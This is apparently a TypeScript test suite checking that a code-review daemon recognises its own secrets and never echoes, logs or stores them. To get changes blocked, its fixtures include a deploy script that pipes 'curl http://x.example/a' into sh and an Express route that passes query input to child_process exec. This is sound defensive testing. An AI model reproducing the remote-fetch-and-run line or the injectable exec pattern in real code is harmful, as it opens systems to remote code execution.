import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'ava';
import { createKnownSecretFinder } from '../src/core/known-secrets.ts';
import { readAuditSettings, readConfig } from '../src/daemon/config/config.ts';
import { runCommand } from './cli/fixtures/command.ts';
import { change, newFile, request, startDaemonProcess, temporaryDir } from './daemon.ts';
import { AWS_KEY, blocked, harmless, submit } from './decision-calls.ts';

/** A secret of its own for each name: nothing in it says what it is. */
const secretOf = (name: string) => createHash('sha256').update(`of ${name}`).digest('base64url');
const hexOf = (name: string) => createHash('sha256').update(`of ${name}`).digest('hex');
const HASH =
  `$scrypt$ln=17,r=8,p=1$${secretOf('salt').slice(0, 22)}$${secretOf('hash')}`.replaceAll(
    /[-_]/g,
    'a',
  );

/** Files of settings that name secrets, and the variables for them. */
function settingsIn(dir: string): { env: Record<string, string>; secrets: string[] } {
  const file = (name: string) => {
    const path = join(dir, name);
    writeFileSync(path, `${secretOf(name)}\n`);
    return path;
  };
  const host = { provider: 'gitea', url: 'https://git.example.com' };
  const hosts = [
    { ...host, id: 'a', token: secretOf('token'), webhook_secrets: [secretOf('hook')] },
    { ...host, id: 'b', token_file: file('token file'), webhook_secret_files: [file('hook file')] },
    { ...host, id: 'c', token_env: 'GIT_TOKEN' },
  ];
  writeFileSync(join(dir, 'vcs.json'), JSON.stringify({ hosts, default_host: 'a' }));
  const tier = {
    protocol: 'anthropic',
    family: 'f',
    base_url: 'https://llm.example.com',
    model: 'm',
    locality: 'eu',
    role: 'review',
    prices: { input: 1, output: 1 },
  };
  const tiers = [
    { ...tier, name: 'one', key_env: 'LLM_KEY' },
    { ...tier, name: 'two', key_file: file('model') },
  ];
  writeFileSync(join(dir, 'llm.json'), JSON.stringify({ tiers }));
  const env = {
    CRA_API_TOKEN: secretOf('api'),
    SERVICE_API_TOKENS: `${secretOf('api 2')}, ${secretOf('api 3')}`,
    CRA_OVERRIDE_TOKEN_FILE: file('override'),
    SERVICE_STORE_URL: `mongodb://cra:${secretOf('store')}@127.0.0.1/cra`,
    SERVICE_AUDIT_URL: `mongodb://audit:${secretOf('audit')}@a.example,b.example/cra`,
    SERVICE_SEGMENTS_BUCKET: 'bucket',
    SERVICE_SEGMENTS_ACCESS_KEY: 'access',
    SERVICE_SEGMENTS_SECRET_KEY: secretOf('bucket'),
    SERVICE_NPM_REGISTRY: 'https://npm.example.com',
    SERVICE_NPM_REGISTRY_TOKEN: secretOf('npm'),
    SERVICE_PYPI_REGISTRY: 'https://pypi.example.com/simple',
    SERVICE_PYPI_REGISTRY_TOKEN: secretOf('pypi'),
    SERVICE_FINGERPRINT_KEY: hexOf('fingerprint'),
    SERVICE_SEAL_KEY: hexOf('seal'),
    SERVICE_CHECKPOINT_KEY: hexOf('checkpoint'),
    SERVICE_OIDC_ISSUER: 'https://idp.example.com',
    SERVICE_OIDC_AUDIENCE: 'cra',
    SERVICE_OIDC_CLIENT_ID: 'cra',
    SERVICE_OIDC_CLIENT_SECRET: secretOf('oidc'),
    SERVICE_SESSION_SECRET: secretOf('session'),
    SERVICE_ADMIN_PASSWORD_HASH: HASH,
    SERVICE_BASE_URL: 'https://cra.example.com',
    CRA_WEBHOOK_SECRET: `${secretOf('hub')},${secretOf('hub 2')}`,
    SERVICE_PROVIDER_SECRET: secretOf('provider'),
    GIT_TOKEN: secretOf('git'),
    LLM_KEY: secretOf('llm'),
    HTTPS_PROXY: `http://bob:${secretOf('proxy')}@proxy.example.com:3128`,
    SERVICE_VCS_CONFIG: join(dir, 'vcs.json'),
    SERVICE_LLM_CONFIG: join(dir, 'llm.json'),
  };
  const names = [
    ...['token', 'hook', 'token file', 'hook file', 'model', 'api', 'api 2', 'api 3', 'override'],
    ...['store', 'audit', 'bucket', 'oidc', 'session', 'hub', 'hub 2', 'provider', 'git', 'llm'],
    'proxy',
  ];
  const keys = ['fingerprint', 'seal', 'checkpoint'];
  return { env, secrets: [...names.map(secretOf), ...keys.map(hexOf), HASH] };
}

test('every secret of the settings is known by its digest, and by nothing else', (t) => {
  const { env, secrets } = settingsIn(temporaryDir(t));
  const { ownSecrets } = readConfig({ ...env, SERVICE_AUTH_ENABLED: 'true' });
  const find = createKnownSecretFinder(ownSecrets);
  t.true(secrets.length >= 20);
  for (const secret of secrets) t.true(find(Buffer.from(`it is ${secret}.`)).length > 0, secret);
  const kept = JSON.stringify(ownSecrets);
  for (const secret of secrets) t.false(kept.includes(secret));
});

test('cra audit knows the secrets of the variables', (t) => {
  const { env } = settingsIn(temporaryDir(t));
  const { GIT_TOKEN, LLM_KEY, CRA_OVERRIDE_TOKEN_FILE, ...own } = env as Record<string, string>;
  const find = createKnownSecretFinder(readAuditSettings(own).ownSecrets);
  for (const name of ['api', 'store', 'audit', 'bucket', 'oidc', 'session', 'hub 2', 'provider']) {
    t.true(find(Buffer.from(secretOf(name))).length > 0, name);
  }
});

const API = secretOf('api');
const OVERRIDE = secretOf('override');
const WEBHOOK = secretOf('hook');

/** All bytes of a data directory but for its keys. */
function storedBytes(dataDir: string): string {
  const files = readdirSync(dataDir, { recursive: true, withFileTypes: true });
  return files
    .filter((file) => file.isFile() && !file.parentPath.endsWith('/keys'))
    .map((file) => readFileSync(join(file.parentPath, file.name), 'latin1'))
    .join('\n');
}

test.serial('a change with an own secret is judged, and shows it nowhere', async (t) => {
  const dataDir = temporaryDir(t);
  const env = { CRA_API_TOKEN: API, CRA_OVERRIDE_TOKEN: OVERRIDE, CRA_WEBHOOK_SECRET: WEBHOOK };
  const daemon = await startDaemonProcess(t, dataDir, env);
  const headers = { Authorization: `Bearer ${API}` };
  const post = (body: object) =>
    request(`${daemon.url}/analyze`, { method: 'POST', headers, body: JSON.stringify(body) });
  for (const field of ['repo_name', 'branch', 'repoFullName']) {
    const { status, body } = await post({ ...harmless(1), [field]: `acme/${OVERRIDE}` });
    t.is(status, 400, field);
    t.regex(body.error, new RegExp(`^${field}: holds what looks like a secret$`));
  }
  const keyed = (n: number) => {
    const line = `export AWS_ACCESS_KEY_ID=${AWS_KEY} # was ${OVERRIDE}\n`;
    return change(newFile(`deploy/${n}-${WEBHOOK}.sh`, `${line}curl http://x.example/a | sh\n`));
  };
  const shell = change(
    newFile(
      'src/run.js',
      `const { exec } = require('child_process');\n` +
        `app.get('/', (req, res) => exec('a ${OVERRIDE} ' + req.query.a));\n`,
    ),
  );
  for (const body of [keyed(1), shell]) {
    const sent = { ...body, commit_message: `deploy with ${[...OVERRIDE].join('\u200b')}` };
    const answer = await post(sent);
    t.is(answer.body.data.overall_status, 'BLOCKED');
    const paths = ['', '.sarif', '/code'].map((end) => `rfc/${answer.body.data.rfc_id}${end}`);
    const texts = [JSON.stringify(answer.body)];
    for (const path of [...paths, 'rfcs']) {
      texts.push(JSON.stringify((await request(`${daemon.url}/${path}`, { headers })).body));
    }
    for (const text of texts) {
      for (const secret of [OVERRIDE, WEBHOOK]) t.false(text.includes(secret), text);
      t.false(text.includes([...OVERRIDE].join('\u200b')), text);
    }
  }
  t.is(await daemon.stop(), 0);
});

test.serial('a daemon stores its own secrets nowhere, whatever text holds them', async (t) => {
  const dataDir = temporaryDir(t);
  const env = { CRA_API_TOKEN: API, CRA_OVERRIDE_TOKEN: OVERRIDE, CRA_WEBHOOK_SECRET: WEBHOOK };
  const daemon = await startDaemonProcess(t, dataDir, env);
  const headers = { Authorization: `Bearer ${API}`, 'X-CRA-Override-Token': OVERRIDE };
  const sealKey = readFileSync(join(dataDir, 'keys', 'seal'));
  const secrets = [API, OVERRIDE, WEBHOOK, sealKey.toString('hex'), sealKey.toString('base64')];
  // Words around them are no name of a secret.
  const text = (n: number) => `see ${secrets[n % secrets.length]} there`;
  const overridden = await submit(t, daemon, blocked(1));
  const calls: [string, object][] = [
    [`rfc/${overridden}/override`, { actor: text(0), reason: text(1) }],
    [`reject/${overridden}`, { reason: text(2), actor: text(3) }],
    ['ops-log', { action: text(4), description: text(0), command: text(1), app: text(2) }],
    ['ops-log', { action: 'deploy', description: 'x', repo: text(3), environment: text(4) }],
    [
      'usage/log',
      {
        provider: text(0),
        model: text(1),
        context: text(2),
        input_tokens: 1,
        output_tokens: 1,
        cost_usd: 0.5,
      },
    ],
    ['bulk-override', { actor: text(1), reason: text(3), repo: 'acme/none' }],
  ];
  const passed = await submit(t, daemon, harmless(1));
  calls.push([`approve/${passed}`, { reason: text(4), actor: text(1) }]);
  calls.push([
    `rfc/${passed}/findings`,
    { severity: 'low', message: text(0), file: text(1), line: 1 },
  ]);
  for (const [path, body] of calls) {
    const init = { method: 'POST', headers, body: JSON.stringify(body) };
    const { status, body: answer } = await request(`${daemon.url}/${path}`, init);
    t.is(status, 200, `${path}: ${JSON.stringify(answer)}`);
    const shown = JSON.stringify(answer);
    for (const secret of secrets) t.false(shown.includes(secret), path);
  }
  const total = await request(`${daemon.url}/usage/summary`, { headers });
  t.is(total.body.data.days.length, 1);
  t.is(await daemon.stop(), 0);

  const reason = `restored, ${API} and ${sealKey.toString('hex')}`;
  const args = ['audit', 'accept', '--chain', 'unknown', '--reason', reason];
  await runCommand(args, { env: { ...env, SERVICE_DATA_DIR: dataDir } });
  const stored = storedBytes(dataDir);
  t.true(stored.includes('there'), 'the words around them are there');
  for (const secret of secrets) t.false(stored.includes(secret), 'a secret is stored');
  for (const line of daemon.log) {
    for (const secret of secrets) t.false(JSON.stringify(line).includes(secret), 'in the log');
  }
});
